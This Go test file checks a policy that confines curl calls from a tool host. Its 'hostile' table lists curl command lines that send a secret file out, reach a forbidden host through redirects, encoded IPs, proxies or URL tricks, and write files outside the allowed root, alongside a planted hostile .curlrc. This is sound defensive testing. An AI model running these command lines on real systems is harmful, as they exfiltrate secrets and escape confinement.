package main

import (
	"bytes"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/toold/toold/host/tools"
	"github.com/toold/toold/pdk/abi"
)

// site is a server that remembers what it was asked.
type site struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string // method, path and body
}

func newSite(t *testing.T, addr string, h http.HandlerFunc) *site {
	t.Helper()
	s := &site{}
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		s.mu.Lock()
		s.seen = append(s.seen, r.Method+" "+r.URL.RequestURI()+" "+string(b))
		s.mu.Unlock()
		if h != nil {
			h(w, r)
		}
	}))
	s.Listener.Close()
	s.Listener = l
	s.Start()
	t.Cleanup(s.Close)
	return s
}

func (s *site) requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.seen)
}

func (s *site) port() string {
	_, port, _ := net.SplitHostPort(s.Listener.Addr().String())
	return port
}

// place is a root with a working directory, something outside it that must
// not be read or written, a hostile HOME, and two servers: one that the
// policy names, at 127.0.0.1, and one that it does not, at 127.0.0.2.
type place struct {
	t                  *testing.T
	curl               string
	root, cwd, home    string
	secret, marker     string
	allowed, forbidden *site
	policy             *policy
	stdin              string
	stdout, stderr     string
}

func newPlace(t *testing.T) *place {
	t.Helper()
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl is not installed: the policy was not tried on it")
	}
	dir := t.TempDir()
	p := &place{t: t, curl: curl, root: filepath.Join(dir, "root"), home: filepath.Join(dir, "home")}
	p.cwd = filepath.Join(p.root, "work")
	p.secret, p.marker = filepath.Join(dir, "secret"), filepath.Join(dir, "marker")
	for _, d := range []string{p.cwd, p.home} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p.write(p.secret, "sesame\n")
	p.forbidden = newSite(t, "127.0.0.2:0", nil)
	p.allowed = newSite(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(w, r, to, http.StatusFound)
			return
		}
		w.Header().Set("Set-Cookie", "c=1")
		w.Header().Set("ETag", `"e1"`)
		w.Header().Set("Content-Disposition", `attachment; filename=".npmrc"`)
		io.WriteString(w, "hello from "+r.URL.Path+"\n")
	})
	p.policy = testPolicy(t, map[string]string{"hosts": "127.0.0.1:" + p.allowed.port(), "files": "roots"})
	p.write(filepath.Join(p.home, ".curlrc"), "output = \""+p.marker+"\"\n")
	p.write(filepath.Join(p.home, ".netrc"), "default login me password sesame\n")
	p.write(filepath.Join(p.cwd, "body.json"), `{"a":1}`)
	p.write(filepath.Join(p.cwd, "curlrc"), "output = \""+p.marker+"\"\nurl = "+p.forbidden.URL+"\n")
	return p
}

func (p *place) write(name, text string) {
	p.t.Helper()
	if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
		p.t.Fatal(err)
	}
}

// expand puts the place's own names into arguments.
func (p *place) expand(args []string) []string {
	r := strings.NewReplacer("ALLOWED", p.allowed.URL, "FORBIDDEN", p.forbidden.URL, "PORT", p.allowed.port(), "OTHER", p.forbidden.port(), "SECRET", p.secret, "MARKER", p.marker, "ROOT", p.root)
	out := make([]string, len(args))
	for i, a := range args {
		out[i] = r.Replace(a)
	}
	return out
}

func (p *place) exec(args []string) int {
	p.t.Helper()
	cmd := exec.CommandContext(p.t.Context(), p.curl, args...)
	cmd.Dir = p.cwd
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + p.home, "LANG=C.UTF-8"}
	cmd.Stdin = strings.NewReader(p.stdin)
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	err := cmd.Run()
	p.stdout, p.stderr = out.String(), errs.String()
	if _, ok := err.(*exec.ExitError); err != nil && !ok {
		p.t.Fatal(err)
	}
	return cmd.ProcessState.ExitCode()
}

// run asks the policy and runs what it answers.
func (p *place) run(args ...string) (*abi.Decision, int) {
	p.t.Helper()
	d := p.policy.decide(&abi.Call{Tool: "curl", Args: p.expand(args), Cwd: p.cwd, Roots: []string{p.root}})
	if d.Effect != abi.Allow {
		return d, 126
	}
	return d, p.exec(d.Args)
}

// harm says what came of a hostile call, or "".
func (p *place) harm() string {
	if _, err := os.Lstat(p.marker); err == nil {
		return "a file was written outside"
	}
	if seen := p.forbidden.requests(); len(seen) > 0 {
		return "the forbidden host was asked: " + strings.Join(seen, ", ")
	}
	for _, r := range p.allowed.requests() {
		if strings.Contains(r, "sesame") {
			return "the secret was sent: " + r
		}
	}
	if strings.Contains(p.stdout+p.stderr, "sesame") {
		return "the secret was shown"
	}
	for _, name := range []string{".npmrc", "x.c"} {
		if _, err := os.Lstat(filepath.Join(p.cwd, name)); err == nil {
			return name + " was written"
		}
	}
	return ""
}

func TestCurlEverydayUse(t *testing.T) {
	for _, tt := range []struct {
		args   []string
		stdin  string
		stdout string
		asked  string // what the server saw last
		file   string // a file made, with its text
		text   string
	}{
		{args: []string{"-sS", "ALLOWED/a"}, stdout: "hello from /a\n", asked: "GET /a "},
		{args: []string{"-s", "127.0.0.1:PORT/b"}, stdout: "hello from /b\n", asked: "GET /b "},
		{args: []string{"-sS", "-o", "out.txt", "ALLOWED/a"}, asked: "GET /a ", file: "out.txt", text: "hello from /a\n"},
		{args: []string{"-sSO", "ALLOWED/a.txt"}, asked: "GET /a.txt ", file: "a.txt", text: "hello from /a.txt\n"},
		{args: []string{"-sS", "--create-dirs", "--output-dir", "d/e", "-o", "f", "ALLOWED/a"}, asked: "GET /a ", file: "d/e/f", text: "hello from /a\n"},
		{args: []string{"-s", "-o", "/dev/null", "-w", "%{http_code}\n", "ALLOWED/a"}, stdout: "200\n", asked: "GET /a "},
		{args: []string{"-s", "-d", "x=1", "-d", "y=2", "ALLOWED/p"}, stdout: "hello from /p\n", asked: "POST /p x=1&y=2"},
		{args: []string{"-s", "-d", "@body.json", "ALLOWED/p"}, stdout: "hello from /p\n", asked: `POST /p {"a":1}`},
		{args: []string{"-s", "--json", "@ROOT/work/../work/body.json", "ALLOWED/p"}, stdout: "hello from /p\n", asked: `POST /p {"a":1}`},
		{args: []string{"-s", "--data-binary", "@-", "ALLOWED/p"}, stdin: "in\n", stdout: "hello from /p\n", asked: "POST /p in\n"},
		{args: []string{"-s", "-T", "-", "ALLOWED/u"}, stdin: "in\n", stdout: "hello from /u\n", asked: "PUT /u in\n"},
		{args: []string{"-s", "-T", "body.json", "ALLOWED/u"}, stdout: "hello from /u\n", asked: `PUT /u {"a":1}`},
		{args: []string{"-s", "-G", "-d", "q=1", "--data-urlencode", "r=a b", "ALLOWED/g"}, stdout: "hello from /g\n"},
		{args: []string{"-s", "-X", "DELETE", "ALLOWED/d"}, stdout: "hello from /d\n", asked: "DELETE /d "},
		{args: []string{"-sL", "ALLOWED/r?to=/next"}, stdout: "hello from /next\n", asked: "GET /next "},
		{args: []string{"-sL", "ALLOWED/r?to=ALLOWED/abs"}, stdout: "hello from /abs\n", asked: "GET /abs "},
		{args: []string{"-sg", "ALLOWED/{a}[1]"}, stdout: "hello from /{a}[1]\n"},
		{args: []string{"-s", "ALLOWED/1", "ALLOWED/2", "-o", "1", "-o", "2"}, asked: "GET /2 ", file: "2", text: "hello from /2\n"},
		{args: []string{"-s", "-c", "-", "-D", "h.txt", "-o", "/dev/null", "ALLOWED/1"}, asked: "GET /1 "},
	} {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			p := newPlace(t)
			p.stdin = tt.stdin
			d, code := p.run(tt.args...)
			if d.Effect != abi.Allow || code != 0 {
				t.Fatalf("%s %s %s, exit %d: %s", d.Effect, d.Rule, d.Reason, code, p.stderr)
			}
			if tt.stdout != "" && p.stdout != tt.stdout {
				t.Errorf("stdout %q, want %q", p.stdout, tt.stdout)
			}
			seen := p.allowed.requests()
			if tt.asked != "" && (len(seen) == 0 || seen[len(seen)-1] != tt.asked) {
				t.Errorf("asked %q, want %q", seen, tt.asked)
			}
			if tt.file != "" {
				if b, err := os.ReadFile(filepath.Join(p.cwd, tt.file)); err != nil || string(b) != tt.text {
					t.Errorf("file %s: %q, %v", tt.file, b, err)
				}
			}
			if h := p.harm(); h != "" {
				t.Error(h)
			}
		})
	}
}

func TestCurlForms(t *testing.T) {
	type part struct{ Name, File, Type, Text string }
	var got []part
	p := newPlace(t)
	p.allowed.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		m, err := r.MultipartReader()
		if err != nil {
			return
		}
		for {
			f, err := m.NextPart()
			if err != nil {
				return
			}
			b, _ := io.ReadAll(f)
			got = append(got, part{f.FormName(), f.FileName(), f.Header.Get("Content-Type"), string(b)})
		}
	})
	d, code := p.run("-s", "-F", "a=x=y, @z", "-F", `m={"k":1};type=application/json`, "-F", "f=@body.json;type=text/plain;filename=n.txt", "-F", "g=<body.json", "--form-string", "h=@SECRET;headers=@SECRET", "ALLOWED/f")
	if code != 0 {
		t.Fatalf("%s %s, exit %d: %s", d.Effect, d.Reason, code, p.stderr)
	}
	want := []part{
		{"a", "", "", "x=y, @z"},
		{"m", "", "application/json", `{"k":1}`},
		{"f", "n.txt", "text/plain", `{"a":1}`},
		{"g", "", "", `{"a":1}`},
		{"h", "", "", "@" + p.secret + ";headers=@" + p.secret},
	}
	if !slices.Equal(got, want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
}

// hostile are command lines that do harm when curl runs them as they are.
// plain says so, and TestHostileWithoutPolicy shows it: else a marker that is
// not made would prove nothing.
var hostile = []struct {
	args  []string
	plain bool
}{
	{[]string{"FORBIDDEN/x"}, true},
	{[]string{"-s", "ALLOWED/a"}, true}, // through the hostile ~/.curlrc
	{[]string{"-L", "ALLOWED/r?to=FORBIDDEN/x"}, true},
	{[]string{"-L", "-X", "POST", "ALLOWED/r?to=FORBIDDEN/x"}, true},
	{[]string{"-L", "ALLOWED/r?to=http://2130706434:OTHER/x"}, true},
	{[]string{"-L", "ALLOWED/r?to=http://127.2:OTHER/x"}, false},
	{[]string{"-L", "ALLOWED/r?to=ALLOWED/r?to%3DFORBIDDEN/x"}, true},
	{[]string{"-L", "ALLOWED/r?to=file://SECRET"}, false},
	{[]string{"-L", "ALLOWED/r?to=ftp://127.0.0.2:OTHER/x"}, false},
	{[]string{"-L", "ALLOWED/r?to=gopher://127.0.0.2:OTHER/_GET%2520/x"}, false},
	{[]string{"file://SECRET"}, true},
	{[]string{"FILE://SECRET"}, true},
	{[]string{"--proto-default", "file", "SECRET"}, true},
	{[]string{"--next", "FORBIDDEN/x"}, false},
	{[]string{"ALLOWED/a", "--next", "FORBIDDEN/x"}, true},
	{[]string{"ALLOWED/a", "-:", "FORBIDDEN/x"}, true},
	{[]string{"http://127.0.0.1:PORT@127.0.0.2:OTHER/"}, true},
	{[]string{"http://127.0.0.1:PORT\\@127.0.0.2:OTHER/"}, false},
	{[]string{"http://127.0.0.2:OTHER#@127.0.0.1:PORT/"}, true},
	{[]string{"http://127.0.0.2:OTHER?@127.0.0.1:PORT/"}, true},
	{[]string{"http://2130706434:OTHER/"}, true},
	{[]string{"http://0x7f.2:OTHER/"}, true},
	{[]string{"http://127.0.0.{1,2}:OTHER/"}, true},
	{[]string{"http://127.0.0.[1-2]:OTHER/"}, true},
	{[]string{"http://127.0.0.1:PORT/", "-x", "FORBIDDEN"}, true},
	{[]string{"-xFORBIDDEN", "http://127.0.0.1:PORT/"}, true},
	{[]string{"--preproxy", "FORBIDDEN", "http://127.0.0.1:PORT/"}, false},
	{[]string{"--connect-to", "127.0.0.1:PORT:127.0.0.2:OTHER", "ALLOWED/a"}, true},
	{[]string{"--resolve", "ok.test:OTHER:127.0.0.2", "http://ok.test:OTHER/"}, true},
	{[]string{"--doh-url", "FORBIDDEN/dns", "http://name.test:PORT/"}, false},
	{[]string{"-K", "curlrc"}, true},
	{[]string{"-Kcurlrc"}, true},
	{[]string{"-sKcurlrc"}, true},
	{[]string{"--config", "curlrc", "ALLOWED/a"}, true},
	{[]string{"--conf", "curlrc", "ALLOWED/a"}, true},
	{[]string{"-o", "MARKER", "ALLOWED/a"}, true},
	{[]string{"-oMARKER", "ALLOWED/a"}, true},
	{[]string{"-so", "../../marker", "ALLOWED/a"}, true},
	{[]string{"-q", "--dump-head", "MARKER", "ALLOWED/a"}, true},
	{[]string{"-q", "--output-dir", "../..", "-o", "marker", "ALLOWED/a"}, true},
	{[]string{"-q", "--output-dir", "ROOT", "-o", "../marker", "ALLOWED/a"}, true},
	{[]string{"-q", "--output-dir", "../..", "-O", "ALLOWED/marker"}, true},
	{[]string{"-q", "-OJ", "ALLOWED/x"}, true},
	{[]string{"-q", "--libcurl", "x.c", "ALLOWED/x"}, true},
	{[]string{"-q", "-D", "MARKER", "ALLOWED/a"}, true},
	{[]string{"-q", "-c", "MARKER", "ALLOWED/a"}, true},
	{[]string{"-q", "--trace", "MARKER", "ALLOWED/a"}, true},
	{[]string{"-q", "--trace-ascii", "MARKER", "ALLOWED/a"}, true},
	{[]string{"-q", "--stderr", "MARKER", "ALLOWED/a"}, true},
	{[]string{"-q", "--etag-save", "MARKER", "ALLOWED/a"}, true},
	{[]string{"-q", "--hsts", "MARKER", "ALLOWED/a"}, false},
	{[]string{"-q", "--alt-svc", "MARKER", "ALLOWED/a"}, false},
	{[]string{"-q", "-d", "@SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "-d@../../secret", "ALLOWED/a"}, true},
	{[]string{"-q", "--data-ascii", "@SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "--data-binary", "@SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "--data-urlencode", "@SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "--data-urlencode", "x@SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "--url-query", "x@SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "--json", "@SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "-F", "x=@SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "-F", "x=<SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "-F", "x=@body.json,SECRET", "ALLOWED/a"}, false},
	{[]string{"-q", "-F", "x=@\"SECRET\"", "ALLOWED/a"}, true},
	{[]string{"-q", "-F", "x=y;headers=@SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "-F", "x= @SECRET", "ALLOWED/a"}, false},
	{[]string{"-q", "-F", "x=(", "-F", "=<SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "-T", "SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "-T", "../../secret", "ALLOWED/a"}, true},
	{[]string{"-q", "-H", "@SECRET", "ALLOWED/a"}, false},
	{[]string{"-q", "-w", "@SECRET", "ALLOWED/a"}, true},
	{[]string{"-q", "-b", "SECRET", "ALLOWED/a"}, false},
	{[]string{"-q", "-nv", "ALLOWED/a"}, false},
}

func TestHostileThroughPolicy(t *testing.T) {
	for _, tt := range hostile {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			p := newPlace(t)
			p.run(tt.args...)
			if h := p.harm(); h != "" {
				t.Error(h)
			}
		})
	}
}

func TestHostileWithoutPolicy(t *testing.T) {
	if testing.Short() {
		t.Skip("shows the harm that the policy keeps away")
	}
	for _, tt := range hostile {
		if !tt.plain {
			continue
		}
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			p := newPlace(t)
			p.exec(p.expand(tt.args))
			if p.harm() == "" {
				t.Errorf("no harm without the policy either (%s): the case shows nothing", p.stderr)
			}
		})
	}
}

// TestPinsHoldAlone: what the pins forbid, curl itself refuses, should the
// policy ever read a URL differently.
func TestPinsHoldAlone(t *testing.T) {
	for _, args := range [][]string{
		{"FORBIDDEN/x"},
		{"-L", "ALLOWED/r?to=FORBIDDEN/x"},
		{"http://2130706434:OTHER/"},
		{"http://127.0.0.1:PORT@127.0.0.2:OTHER/"},
		{"http://127.0.0.[2-2]:OTHER/"},
		{"file://SECRET"},
		{"-L", "ALLOWED/r?to=file://SECRET"},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			p := newPlace(t)
			d, _ := p.run("-s", "ALLOWED/a")
			i := slices.Index(d.Args, "--noproxy")
			p.exec(append(slices.Clone(d.Args[:i+2]), p.expand(args)...))
			if h := p.harm(); h != "" {
				t.Error(h)
			}
		})
	}
}

// TestRedirectsAreBounded: curl's own bound is fifty.
func TestRedirectsAreBounded(t *testing.T) {
	p := newPlace(t)
	p.allowed.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p.allowed.mu.Lock()
		p.allowed.seen = append(p.allowed.seen, r.URL.Path)
		p.allowed.mu.Unlock()
		http.Redirect(w, r, r.URL.Path+"x", http.StatusFound)
	})
	if _, code := p.run("-sSL", "ALLOWED/"); code != 47 || len(p.allowed.requests()) != maxRedirects+1 {
		t.Errorf("exit %d after %d requests: %s", code, len(p.allowed.requests()), p.stderr)
	}
}

// TestSymlink: a name beneath the roots may lead out of them, which no policy
// can see; so without config.files no name is opened. With it the host's
// confinement is what holds.
func TestSymlink(t *testing.T) {
	for _, files := range []string{"", "roots"} {
		p := newPlace(t)
		p.policy = testPolicy(t, map[string]string{"hosts": "127.0.0.1:" + p.allowed.port(), "files": files})
		if err := os.Symlink(p.secret, filepath.Join(p.cwd, "link")); err != nil {
			t.Fatal(err)
		}
		for _, args := range [][]string{{"-d", "@link"}, {"-T", "link"}, {"-F", "a=@link"}, {"-b", "link"}, {"--data-urlencode", "x@link"}, {"--etag-compare", "link"}} {
			p.run(append(args, "ALLOWED/a")...)
		}
		if h := p.harm(); (h == "") != (files == "") {
			t.Errorf("files %q: %q", files, h)
		}
	}
}

// TestRedirectIsExplained: who follows a redirect to elsewhere is told.
func TestRedirectIsExplained(t *testing.T) {
	p := newPlace(t)
	_, code := p.run("-sSL", "ALLOWED/r?to=FORBIDDEN/x")
	if code != 5 || !strings.Contains(p.stderr, offHost) {
		t.Errorf("exit %d: %s", code, p.stderr)
	}
	if _, code := p.run("-sL", "--max-redirs", "2", "ALLOWED/loop?to=/loop?to=/loop"); code != 0 {
		t.Errorf("two redirects: exit %d: %s", code, p.stderr)
	}
	if _, code := p.run("-sL", "--max-redirs", "1", "ALLOWED/a?to=/b%3Fto%3D/c"); code != 47 {
		t.Errorf("one redirect too many: exit %d: %s", code, p.stderr)
	}
}

// TestGrammarKnowsCurl: every flag of the installed curl is either allowed or
// refused by the grammar's own choice, so that a new version's flags are
// looked at; and none that is written in the grammar is misspelt.
func TestGrammarKnowsCurl(t *testing.T) {
	p := newPlace(t)
	if p.exec([]string{"-q", "--help", "all"}) != 0 {
		t.Fatal(p.stderr)
	}
	have := map[string]bool{}
	for line := range strings.Lines(p.stdout) {
		for _, w := range strings.Fields(line)[:2] {
			if w = strings.TrimSuffix(w, ","); strings.HasPrefix(w, "-") {
				have[w] = true
			}
		}
	}
	if len(have) < 200 {
		t.Fatalf("only %d flags found", len(have))
	}
	// These are in newer versions, or have other names for --no-.
	newer := []string{"--no-styled-output", "--http3", "--tcp-fastopen", "--help"}
	for _, f := range grammar.All() {
		for _, n := range strings.Fields(f.Names) {
			if !have[n] && !slices.Contains(newer, n) {
				t.Errorf("curl knows no %s", n)
			}
		}
	}
}

func TestToolJSON(t *testing.T) {
	b, err := os.ReadFile("../../tools.d/curl/tool.json")
	if err != nil {
		t.Fatal(err)
	}
	def, err := tools.ParseDefinition("tool.json", b)
	if err != nil {
		t.Fatal(err)
	}
	testPolicy(t, def.Config)
	if !slices.Equal(def.Reliability.RetriableExits, []int{6, 7, 28, 35, 52, 56}) {
		t.Errorf("retriable_exits %v", def.Reliability.RetriableExits)
	}
}
